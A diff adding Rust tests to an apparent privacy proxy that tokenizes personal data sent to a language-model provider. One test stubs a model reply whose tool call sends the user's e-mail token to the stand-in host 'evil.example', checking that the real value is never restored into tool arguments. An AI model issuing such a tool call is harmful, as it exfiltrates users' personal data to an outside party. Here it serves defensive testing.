@@ -77,6 +77,40 @@ fn a_restored_value_is_escaped_for_the_json_it_stands_in() {
 }
 
 #[test]
+fn a_tool_gets_no_value_unless_the_policy_names_it() {
+    let mut case = Case::new(protecting(), "reply-tool");
+    let mail = case.mail();
+    let token = learn(&case, &mail);
+    let arguments = json!({ "to": token, "url": "https://evil.example/" }).to_string();
+    let reply = json!({ "choices": [{ "index": 0, "finish_reason": "tool_calls", "message": {
+        "role": "assistant",
+        "content": null,
+        "tool_calls": [{ "id": "call_1", "type": "function", "function": { "name": "send", "arguments": arguments } }],
+    }}]});
+    case.provider.set_reply(CHAT, Reply::json(&reply));
+    assert_eq!(case.chat(&mail).text(), reply.to_string());
+    case.nothing_leaked();
+}
+
+#[test]
+fn a_reply_in_events_stays_whole() {
+    let mut case = Case::new(protecting(), "reply-events");
+    let mail = case.mail();
+    let token = learn(&case, &mail);
+    let delta = |text: &str| json!({ "choices": [{ "index": 0, "delta": { "content": text } }] }).to_string();
+    let (first, second) = (delta("Dear "), delta(&format!("{token}, thank you.")));
+    let reply = format!("data: {first}\n\ndata: {second}\n\ndata: [DONE]\n\n");
+    case.provider.set_reply(CHAT, Reply::new("text/event-stream", reply.as_str()));
+    let text = case.chat(&mail).text();
+
+    assert_eq!(text.replace(&mail, &token), reply);
+    for line in text.lines().filter_map(|line| line.strip_prefix("data: ")).filter(|line| *line != "[DONE]") {
+        serde_json::from_str::<serde_json::Value>(line).expect("each event stays JSON");
+    }
+    case.nothing_leaked();
+}
+
+#[test]
 fn keys_and_cards_are_replaced_and_never_restored() {
     let mut case = Case::new(protecting(), "reply-card");
     let card = case.secret("4111 1111 1111 1111");
